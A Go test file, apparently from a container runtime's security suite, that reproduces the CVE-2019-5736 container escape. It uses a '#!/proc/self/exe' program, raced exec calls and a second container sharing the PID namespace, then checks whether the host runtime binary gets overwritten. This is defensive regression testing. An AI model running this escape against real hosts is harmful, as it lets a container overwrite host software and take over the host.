package attack

import (
	"context"
	"crypto/sha256"
	"fmt"
	"os"
	"path/filepath"
	"testing"
	"time"

	specs "github.com/opencontainers/runtime-spec/specs-go"
)

// TestOwnProgramThroughProc is CVE-2019-5736: a container without a user namespace and with all capabilities waits for a process
// that runs the runtime's own file and writes to it. The image's program is `#!/proc/self/exe`, which would make the runtime
// start itself inside the container. Both ways in are tried: exec, and a second container in the pid namespace of the first.
func TestOwnProgramThroughProc(t *testing.T) {
	prove(t, func(t *testing.T, p *program) string {
		victim := *p
		victim.path = filepath.Join(work, p.name+"-victim")
		copyFile(t, p.path, victim.path, 0o755)
		before := hashOf(t, victim.path)

		b := newBundle(t, "/attacker", "racer", "exe")
		b.unconfine()
		writeFile(t, filepath.Join(b.rootfs, "evil"), "#!/proc/self/exe\n", 0o755)
		id, pid := p.start(t, b)

		second := newBundle(t, "/evil")
		second.unconfine()
		writeFile(t, filepath.Join(second.rootfs, "evil"), "#!/proc/self/exe\n", 0o755)
		for i := range second.spec.Linux.Namespaces {
			if ns := &second.spec.Linux.Namespaces[i]; ns.Type == specs.PIDNamespace {
				ns.Path = fmt.Sprintf("/proc/%d/ns/pid", pid)
			}
		}
		second.write(t, p)
		until := p.window(6 * time.Second)
		for i := 0; i < 1500 && time.Now().Before(until); i++ {
			_, _ = victim.quiet("exec", id, "/evil")
			_, _ = victim.quiet("exec", id, "/bin/true")
			if i%5 == 0 {
				other := newID()
				_, _ = victim.quiet("run", "--bundle", second.dir, other)
				_, _ = p.quiet("delete", "--force", other)
			}
			if said, _ := os.ReadFile(b.output()); hits(string(said)) != "" {
				break
			}
		}
		time.Sleep(100 * time.Millisecond)
		if hashOf(t, victim.path) != before {
			return "the runtime's program on the host was overwritten"
		}
		said, _ := os.ReadFile(b.output())
		return hits(string(said))
	})
}

// quiet runs a command whose outcome the attack does not depend on.
func (p *program) quiet(args ...string) (string, error) {
	ctx, cancel := context.WithTimeout(context.Background(), patience)
	defer cancel()
	out, err := p.command(ctx, args...).CombinedOutput()
	return string(out), err
}

func hashOf(t *testing.T, path string) [32]byte {
	t.Helper()
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	return sha256.Sum256(data)
}
